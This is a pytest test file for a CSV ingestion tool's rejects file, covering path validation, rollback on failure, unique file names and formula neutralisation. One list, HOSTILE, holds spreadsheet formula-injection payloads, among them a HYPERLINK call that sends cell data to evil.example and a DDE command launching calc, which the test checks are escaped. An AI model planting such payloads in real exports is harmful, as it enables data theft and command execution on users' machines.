"""The rejects file: checked before the store is touched, never lost after a commit, never replacing
a file, and safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import errno
import os
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from retentio.app import App
from retentio.config import Settings
from retentio.errors import UserError
from retentio.ingest import IngestOptions, StrictRejected, ingest_file
from retentio.ingest import service as ingest_service
from retentio.store.schema import IngestRun, Order

EXE = str(Path(sys.executable).with_name("retentio"))
ORDERS = (
    "order_id,customer_id,ordered_at,total\n"
    "1,a,2024-01-01,10\n"
    "2,a,2024-01-02,not a number\n"  # line 3: rejected
    "3,b,2024-01-03,30\n"
)


def run(home: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = dict(os.environ, RETENTIO_HOME=str(home), NO_COLOR="1")
    env.pop("RETENTIO_DATABASE_URL", None)
    return subprocess.run([EXE, *args], capture_output=True, text=True, env=env, timeout=120)


def stored_orders(home: Path) -> int:
    db = home / "retentio.db"
    if not db.exists():
        return 0
    with sqlite3.connect(db) as con:
        try:
            return int(con.execute("select count(*) from orders").fetchone()[0])
        except sqlite3.OperationalError:
            return 0


def order_count(app: App) -> int:
    with Session(app.engine) as session:
        return int(session.scalar(select(func.count()).select_from(Order)) or 0)


@pytest.fixture
def orders_file(tmp_path: Path) -> Path:
    path = tmp_path / "orders.csv"
    path.write_text(ORDERS, encoding="utf-8")
    return path


def _unwritable_folder(tmp_path: Path) -> Path:
    if os.geteuid() == 0:  # root writes anywhere a permission bit forbids; not into sysfs
        return Path("/sys")
    folder = tmp_path / "read-only"
    folder.mkdir()
    folder.chmod(0o555)
    return folder


@pytest.mark.parametrize("kind", ["device", "folder", "the input", "missing folder", "read-only folder"])
def test_odd_rejects_path_fails_in_one_line_before_loading(
    home: Path, tmp_path: Path, orders_file: Path, kind: str
) -> None:
    before = orders_file.read_bytes()
    target = {
        "device": Path("/dev/full"),
        "folder": tmp_path,
        "the input": orders_file,
        "missing folder": tmp_path / "no-such-folder" / "rejects.csv",
        "read-only folder": _unwritable_folder(tmp_path) / "rejects.csv",
    }[kind]
    result = run(home, "ingest", "orders", str(orders_file), "--rejects", str(target))
    assert result.returncode == 2, result.stdout + result.stderr
    assert "Traceback" not in result.stdout + result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    assert "rejects file" in result.stderr
    assert stored_orders(home) == 0  # nothing loaded
    assert orders_file.read_bytes() == before  # the input is never replaced
    if kind == "read-only folder":
        assert "read-only" in result.stderr


def test_rejects_file_that_cannot_be_written_rolls_the_load_back(
    app: App, settings: Settings, orders_file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A full disk while writing the rejects: nothing loaded, a one-line error, no file left."""

    def full_disk(fd: int) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(ingest_service.os, "fsync", full_disk)
    target = tmp_path / "rejects.csv"
    with pytest.raises(UserError, match="No space left"):
        ingest_file(app, "orders", orders_file, rejects_path=target)
    assert order_count(app) == 0
    assert not target.exists()
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
    monkeypatch.undo()
    summary = ingest_file(app, "orders", orders_file, rejects_path=target)
    assert (summary.loaded, summary.rejected, summary.rejects_file) == (2, 1, str(target))
    assert order_count(app) == 2


def test_a_failed_commit_leaves_no_rejects_file(
    app: App, settings: Settings, orders_file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The rejects file is named just before the commit; if the transaction fails it goes again."""
    original = ingest_service.bump_data_version

    def failing_bump(session: Session) -> int:
        original(session)
        raise RuntimeError("connection lost")

    monkeypatch.setattr(ingest_service, "bump_data_version", failing_bump)
    target = tmp_path / "rejects.csv"
    with pytest.raises(RuntimeError):
        ingest_file(app, "orders", orders_file, rejects_path=target)
    monkeypatch.undo()
    assert order_count(app) == 0
    assert not target.exists()


def test_rejects_are_written_before_the_commit_and_recorded(
    app: App, settings: Settings, orders_file: Path, tmp_path: Path
) -> None:
    target = tmp_path / "rejects.csv"
    summary = ingest_file(app, "orders", orders_file, rejects_path=target)
    assert summary.rejects_file == str(target)
    rows = list(csv.reader(target.open(encoding="utf-8-sig")))
    assert rows[1][:3] == ["3", "total", "total is not a number"]
    with Session(app.engine) as session:
        assert session.scalar(select(IngestRun.rejects_file)) == str(target)
    # Loading again with the same --rejects refuses before touching anything.
    with pytest.raises(UserError, match="exists already"):
        ingest_file(app, "orders", orders_file, rejects_path=target)


def test_default_rejects_names_are_unique(
    app: App, settings: Settings, orders_file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Two ingests in the same instant (same timestamp) never share or replace a rejects file."""
    fixed = settings.rejects_dir / "orders-20240101T000000000000Z.csv"
    monkeypatch.setattr(ingest_service, "_rejects_path", lambda settings, table: fixed)
    first = ingest_file(app, "orders", orders_file)
    second = ingest_file(app, "orders", orders_file)
    assert first.rejects_file == str(fixed)
    assert second.rejects_file is not None and second.rejects_file != first.rejects_file
    assert Path(second.rejects_file).is_file() and fixed.is_file()
    assert sorted(p.name for p in settings.rejects_dir.iterdir()) == [
        "orders-20240101T000000000000Z-2.csv",
        "orders-20240101T000000000000Z.csv",
    ]


def test_strict_writes_its_rejects_and_loads_nothing(
    app: App, settings: Settings, orders_file: Path, tmp_path: Path
) -> None:
    target = tmp_path / "strict.csv"
    with pytest.raises(StrictRejected):
        ingest_file(app, "orders", orders_file, IngestOptions(strict=True), rejects_path=target)
    assert target.is_file()
    assert order_count(app) == 0


HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def test_rejects_file_neutralises_formulas(app: App, settings: Settings, tmp_path: Path) -> None:
    path = tmp_path / "customers.csv"
    lines = ["customer_id,first_name,birthday"]
    lines += [f'c{i},"{name.replace(chr(34), chr(34) * 2)}",not-a-date' for i, name in enumerate(HOSTILE)]
    lines.append('c9,"\tTab",also-bad')
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    target = tmp_path / "rejects.csv"
    summary = ingest_file(app, "customers", path, rejects_path=target)
    assert summary.rejected == len(HOSTILE) + 1
    rows = list(csv.DictReader(target.open(encoding="utf-8-sig", newline="")))
    assert [r["first_name"] for r in rows[: len(HOSTILE)]] == ["'" + name for name in HOSTILE]
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), row
            assert not value.startswith("-") or value.lstrip("-").replace(".", "").isdigit(), row
